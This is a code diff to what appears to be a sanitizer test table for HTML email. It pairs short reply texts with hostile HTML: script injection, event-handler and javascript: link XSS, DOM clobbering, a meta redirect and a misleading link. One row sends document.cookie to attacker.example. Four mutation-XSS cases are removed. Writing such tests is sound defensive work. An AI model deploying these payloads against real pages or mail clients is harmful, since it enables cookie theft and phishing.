@@ -9,7 +9,7 @@ import { simpleMail } from '@/scripts/mail-corpus/writing/simple-mail';
 /** The name, what a reader sees, and the HTML. */
 const ANSWERS = tableRows(String.raw`
 script | The draft is fine. | <p>The draft is fine.</p><script>fetch("https://attacker.example/"+document.cookie)</script>
-script-split | No changes. | <p>No changes.</p><scr<script></script>ipt>alert(1)</scr</script>
+script-written | No changes. | <p>No changes.</p><script>document.write("<scr"+"ipt>alert(1)</scr"+"ipt>")</script>
 event-handler | See you on Monday. | <p onclick="alert(1)" onmouseover=alert(2)>See you on Monday.</p><img src=x onerror=alert(3)>
 body-onload | We agree. | <body onload="alert(1)" onpageshow="alert(2)"><p>We agree.</p></body>
 meta-refresh | Please wait. | <html><head><meta http-equiv="refresh" content="0;url=https://attacker.example/"></head><body>Please wait.</body></html>
@@ -34,10 +34,6 @@ javascript-tabs | Open the file. | <p>Open the <a href="java&#9;script&colon;ale
 data-link | Read the letter. | <p>Read the <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">letter</a>.</p>
 vbscript | It is old. | <p>It is <a href="vbscript:msgbox(1)">old</a>.</p>
 misleading-link | Sign in at https://tesseraworks.example/desk | <p>Sign in at <a href="https://attacker.example/desk">https://tesseraworks.example/desk</a></p>
-mxss-noscript | It works now. | <p>It works now.</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
-mxss-template | Test passed. | <p>Test passed.</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>
-mxss-comment | Nothing else. | <p>Nothing else.</p><!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(2)> -->
-mxss-namespace | Good work. | <p>Good work.</p><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
 clobbering | The form is short. | <p>The form is short.</p><img name="getElementById"><a id="location" href="https://attacker.example/"></a><input name="body">
 conditional-comment | Only for Outlook. | <!--[if mso]><script>alert(1)</script><![endif]--><p>Only for Outlook.</p>
 slot | Fine by us. | <p>Fine by us.</p><x-desk onconnected="alert(1)"><slot name="x"></slot></x-desk><div is="desk-app"></div>
